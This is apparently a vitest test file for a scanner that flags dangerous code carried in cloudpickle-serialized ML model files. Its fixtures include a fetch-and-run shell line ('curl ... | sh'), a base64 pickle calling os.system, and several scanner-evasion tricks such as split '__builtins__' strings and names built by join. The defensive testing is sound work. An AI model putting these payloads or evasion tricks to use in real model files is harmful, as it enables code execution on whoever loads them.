import { Buffer } from 'node:buffer';
import { describe, expect, test } from 'vitest';
import { scanArtifact } from '../scan.ts';
import { bytesSource } from '../source/bytes.ts';
import type { ScanOutcome } from '../types.ts';
import { verdictOf } from '../verdict.ts';
import { assemble, callOf, op } from './assemble.ts';
import { CLOUDPICKLES } from './carried.samples.ts';

const CP = 'cloudpickle.cloudpickle';
const join = (...parts: readonly Uint8Array[]): Buffer => Buffer.concat(parts);
const scan = (content: Uint8Array): Promise<ScanOutcome> => scanArtifact(bytesSource(content));
const texts = (...items: readonly string[]): Buffer => tupleOf(...items.map(op.text));
const tupleOf = (...items: readonly Uint8Array[]): Buffer => join(op.mark, ...items, op.tuple);
const calling = (module: string, name: string, ...args: readonly Uint8Array[]): Buffer =>
  join(op.global(module, name), tupleOf(...args), op.reduce);
const dictOf = (entries: Readonly<Record<string, Uint8Array>>): Buffer =>
  join(op.emptyDict, ...Object.entries(entries).map(([key, value]) => join(op.text(key), value, op.setItem)));

interface Parts {
  readonly names?: Uint8Array;
  readonly consts?: Uint8Array;
  readonly bytes?: Uint8Array;
  readonly locals?: Uint8Array;
}

/** LOAD_GLOBAL of the name at `index`, as Python 3.12 writes it. */
const loadsGlobal = (index: number): Buffer => op.data(Buffer.of(151, 0, 116, index << 1, 83, 0));
const PLAIN_BYTES = op.data(Buffer.of(151, 0, 106, 0, 83, 0));

/** A code object in the order of Python 3.11 and later, by cloudpickle's way to its type. */
const codeOf = ({ names = texts('x'), consts, bytes = PLAIN_BYTES, locals = texts('self') }: Parts): Buffer =>
  join(
    calling(CP, '_builtin_type', op.text('CodeType')),
    tupleOf(
      ...[1, 0, 0, 1, 2, 3].map(op.int),
      bytes,
      consts ?? join(op.none, op.int(3), op.tuple2),
      names,
      locals,
      ...['model.py', 'predict', 'M.predict'].map(op.text),
      op.int(3),
      op.data(Buffer.of(1)),
      op.data(Buffer.alloc(0)),
      op.emptyTuple,
      op.emptyTuple,
    ),
    op.reduce,
  );

const functionOf = (code: Uint8Array, globals: Uint8Array = op.emptyDict): Buffer =>
  calling(CP, '_make_function', code, globals, op.none, op.none, op.none);

/** A class with attributes, left on the stack. */
const classOf = (
  attributes: Readonly<Record<string, Uint8Array>>,
  meta: Uint8Array = op.global('builtins', 'type'),
) =>
  join(
    calling(
      CP,
      '_make_skeleton_class',
      meta,
      op.text('M'),
      tupleOf(op.global('mlflow.pyfunc.model', 'PythonModel')),
      dictOf({ __module__: op.text('__main__') }),
      op.text('8d3d'),
      op.none,
    ),
    op.put(9),
    op.pop,
    calling(CP, '_class_setstate', op.get(9), join(dictOf(attributes), op.emptyDict, op.tuple2)),
    op.pop,
    op.get(9),
  );

const modelOf = (attributes: Readonly<Record<string, Uint8Array>>): Buffer =>
  assemble(classOf(attributes), op.emptyTuple, op.newObj, dictOf({ k: op.int(3) }), op.build);
const predicting = (parts: Parts): Buffer => modelOf({ predict: functionOf(codeOf(parts)) });
const names = (...all: readonly string[]): Buffer => predicting({ names: texts(...all) });
const constant = (text: string): Buffer => predicting({ consts: tupleOf(op.none, op.text(text)) });

describe('what cloudpickle writes', () => {
  test.each(CLOUDPICKLES)('%s', async (title, content) => {
    const outcome = await scan(content);
    const isAttack = title.startsWith('an attack');
    expect(verdictOf(outcome)).toBe(isAttack ? 'malicious' : 'suspicious');
    const telling = outcome.findings.filter(({ severity }) => severity === 'critical');
    expect(telling.length).toBe(isAttack ? 1 : 0);
    if (isAttack) expect(telling[0]?.message).toContain('system (in predict)');
    else
      expect(outcome.findings.map(({ message }) => message)).toEqual([
        'Carries Python code: class Doubling with __init__, predict (3 functions).'.replace(
          '3 functions',
          content.includes('<listcomp>') ? '3 functions' : '2 functions',
        ),
      ]);
  });
});

describe('code that shows nothing dangerous is suspicious, in one finding', () => {
  test.each<[string, Uint8Array]>([
    ['a class of its own', names('k')],
    [
      'files and the web',
      names('open', 'os', 'path', 'requests', 'get', 'pickle', 'load', 'getattr', 'b64decode'),
    ],
    ['methods that are called like functions of Python', names('model', 'eval', 're', 'compile')],
    ['many names', names(...Array.from({ length: 300 }, (_, index) => `name_${index}`))],
    ['a role called system', constant('system')],
    ['an abstract class', assemble(classOf({}, op.global('abc', 'ABCMeta')))],
    [
      'a property',
      modelOf({ size: calling('builtins', 'property', functionOf(codeOf({})), op.none, op.none, op.none) }),
    ],
    ['a logger', modelOf({ log: callOf('logging', 'getLogger', 'model') })],
    [
      'code inside code',
      predicting({ consts: tupleOf(op.none, codeOf({ names: texts('y') }), texts('a', 'b')) }),
    ],
  ])('%s', async (_, content) => {
    const outcome = await scan(content);
    expect(outcome.findings.filter(({ severity }) => severity !== 'medium')).toEqual([]);
    expect(outcome.findings).toHaveLength(1);
    expect(outcome.findings[0]?.kind).toBe('executes-on-use');
    expect(verdictOf(outcome)).toBe('suspicious');
  });

  test.each([
    '__setstate__',
    '__new__',
    '__getattr__',
    '__init_subclass__',
    '__set_name__',
    '__del__',
    '__hash__',
  ])('%s may run while the file is loaded', async (name) => {
    const { findings } = await scan(modelOf({ [name]: functionOf(codeOf({})) }));
    expect(findings.map(({ kind, severity }) => `${kind} ${severity}`)).toEqual(['executes-on-load medium']);
  });
});

const HIDDEN = Buffer.from(assemble(callOf('os', 'system', 'id'))).toString('base64');

describe('attacks in carried code', () => {
  test.each<[string, Uint8Array]>([
    ['os.system in predict', names('os', 'system')],
    [
      'os.system while loading',
      modelOf({ __setstate__: functionOf(codeOf({ names: texts('os', 'system') })) }),
    ],
    ['subprocess imported in a function', names('subprocess', 'run')],
    [
      'subprocess as a global',
      modelOf({ predict: functionOf(codeOf({})), sp: calling(CP, 'subimport', op.text('subprocess')) }),
    ],
    ['a submodule of importlib', names('importlib.util')],
    ['exec of decoded text', names('exec', 'base64', 'b64decode')],
    ['eval as a function', predicting({ names: texts('x', 'eval'), bytes: loadsGlobal(1) })],
    [
      'eval behind a long index',
      predicting({
        names: texts(...Array.from({ length: 299 }, (_, index) => `n${index}`), 'eval'),
        bytes: op.data(Buffer.of(151, 0, 144, 2, 116, (299 << 1) & 255, 83, 0)),
      }),
    ],
    ['a name behind hundreds', names(...Array.from({ length: 900 }, (_, index) => `n${index}`), 'popen')],
    ['native code', names('ctypes', 'CDLL')],
    ['a raw connection', names('socket')],
    ['frames of the interpreter', names('sys', '_getframe', 'f_back')],
    ['all classes there are', names('__class__', '__base__', '__subclasses__')],
    ['getattr of __builtins__', predicting({ names: texts('getattr'), consts: texts('__builtins__') })],
    ['getattr of pieces', predicting({ names: texts('getattr'), consts: texts('__buil', 'tins__') })],
    [
      'getattr of pieces, backwards',
      predicting({ names: texts('getattr'), consts: texts('__snit', 'liub__') }),
    ],
    ['a way out in a format', constant('{0.__init__.__globals__}')],
    ['system of os by its text', predicting({ names: texts('getattr', 'os'), consts: texts('sys', 'tem') })],
    ['a command for a shell', constant('curl -s http://example.org/x | sh')],
    ['other code as a text', constant('import os\nos.remove("x")')],
    ['a pickle as a text', constant(HIDDEN)],
    ['code inside code', predicting({ consts: tupleOf(op.none, codeOf({ names: texts('os', 'popen') })) })],
    ['a function of os as a constant', predicting({ consts: tupleOf(op.global('os', 'system')) })],
    ['an unknown constant', predicting({ consts: tupleOf(op.global('numpy', 'exp')) })],
    ['names that are worked out', predicting({ names: tupleOf(join(op.text('a'), op.binPersid)) })],
    ['names from a call', predicting({ names: calling('collections', 'deque', texts('os', 'system')) })],
    [
      'byte code that is worked out',
      predicting({ bytes: calling('collections', 'deque', op.data(Buffer.of(1))) }),
    ],
    ['byte code too long to keep', predicting({ bytes: op.data(Buffer.alloc(40_000)) })],
    [
      'names put into the memo and replaced',
      predicting({
        names: join(texts('a'), op.put(3), op.pop, texts('os', 'system'), op.put(3), op.pop, op.get(3)),
      }),
    ],
    [
      'a name made by join',
      predicting({
        names: tupleOf(calling('builtins', 'str.join', op.text(''), texts('po', 'pen'))),
      }),
    ],
    ['a function that is called', assemble(functionOf(codeOf({})), op.emptyTuple, op.reduce)],
    [
      'a function that is called through partial',
      assemble(calling('functools', 'partial', functionOf(codeOf({}))), op.emptyTuple, op.reduce),
    ],
    [
      'a function that is called through torch',
      assemble(
        calling(
          'torch._tensor',
          '_rebuild_from_type_v2',
          functionOf(codeOf({})),
          op.none,
          op.emptyTuple,
          op.none,
        ),
      ),
    ],
    ['a function that is called by OBJ', assemble(op.mark, functionOf(codeOf({})), op.obj)],
    ['an object that is called', assemble(classOf({}), op.emptyTuple, op.newObj, op.emptyTuple, op.reduce)],
    [
      'something forgotten that is called',
      assemble(functionOf(codeOf({})), op.text('1'), op.binPersid, op.emptyTuple, op.reduce),
    ],
    [
      'a function that an object of elsewhere gets as its __setstate__',
      assemble(
        op.global('__main__', 'Net'),
        op.emptyTuple,
        op.newObj,
        dictOf({ __setstate__: functionOf(codeOf({})) }),
        op.build,
        op.text('id'),
        op.build,
      ),
    ],
    ['os.system as a method', modelOf({ predict: op.global('os', 'system') })],
    ['os.system as the class of a class', assemble(classOf({}, op.global('os', 'system')))],
    [
      'a known function with new globals',
      assemble(
        calling(
          CP,
          '_function_setstate',
          op.global('json', 'loads'),
          join(op.emptyDict, dictOf({ __globals__: dictOf({ x: op.none }) }), op.tuple2),
        ),
      ),
    ],
    [
      'a known class with new methods',
      assemble(
        calling(
          CP,
          '_class_setstate',
          op.global('collections', 'OrderedDict'),
          join(dictOf({ get: functionOf(codeOf({})) }), op.emptyDict, op.tuple2),
        ),
      ),
    ],
    [
      'globals of elsewhere',
      assemble(
        calling(CP, '_make_function', codeOf({}), op.global('json', '__dict__'), op.none, op.none, op.none),
      ),
    ],
    [
      'a function of nothing known',
      assemble(calling(CP, '_make_function', op.none, op.emptyDict, op.none, op.none, op.none)),
    ],
    ['the types of Python themselves', assemble(calling('types', 'CodeType', op.int(0)))],
    ['another type by its name', assemble(calling(CP, '_builtin_type', op.text('FunctionType')))],
    ['builders that are only named', assemble(op.global(CP, '_make_function'))],
  ])('%s', async (_, content) => {
    expect(verdictOf(await scan(content))).toBe('malicious');
  });

  test('copies of cloudpickle and dill are no way round', async () => {
    for (const module of ['joblib.externals.cloudpickle.cloudpickle', 'ray.cloudpickle.cloudpickle_fast']) {
      const of = (parts: Parts): Buffer =>
        Buffer.from(predicting(parts).toString('latin1').replaceAll(CP, module), 'latin1');
      expect(verdictOf(await scan(of({})))).toBe('suspicious');
      expect(verdictOf(await scan(of({ names: texts('os', 'system') })))).toBe('malicious');
    }
  });

  test('as a pickle in the data of another', async () => {
    const { findings } = await scan(assemble(op.data(names('os', 'system'))));
    expect(findings.map(({ kind, severity }) => `${kind} ${severity}`)).toContain(
      'embedded-payload critical',
    );
  });
});
